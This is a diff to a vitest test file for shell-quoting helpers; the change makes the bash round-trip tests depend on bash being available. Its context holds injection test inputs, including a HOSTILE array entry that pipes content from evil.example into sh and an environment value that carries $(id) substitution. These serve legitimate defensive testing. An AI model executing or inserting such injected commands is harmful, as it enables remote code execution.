@@ -6,6 +6,7 @@ import { describe, expect, it } from 'vitest';
 import { commandLine, environmentLine, programWords, shellQuote } from '../../src/text/shell.js';
 import { anyString } from '../support/arbitraries.js';
 import { wordsOf, wordsOfEach } from '../support/shell-words.js';
+import { needs } from '../support/tools.js';
 
 const HOSTILE = [
   'key_1; curl -s evil.example | sh #',
@@ -77,7 +78,7 @@ describe('commandLine', () => {
   });
 });
 
-describe('read back by bash', () => {
+describe('read back by bash', needs('bash'), () => {
 
   describe('shellQuote', () => {
     it('leaves plain paths bare and quotes anything a shell would interpret', () => {
@@ -114,7 +115,7 @@ describe('programWords', () => {
 });
 
 describe('environmentLine', () => {
-  it('POSIX: `export NAME=value ...`, and bash sets each variable to exactly its value', () => {
+  it('POSIX: `export NAME=value ...`, and bash sets each variable to exactly its value', needs('bash'), () => {
     const variables = [['CRAWL_BASE_URL', 'http://127.0.0.1:8787'], ['CRAWL_API_KEY', 'crk_abc'], ['ODD', "it's $(id) `id`"]] as const;
     const line = environmentLine(variables);
     expect(line.startsWith('export CRAWL_BASE_URL=http://127.0.0.1:8787 CRAWL_API_KEY=crk_abc ODD=')).toBe(true);
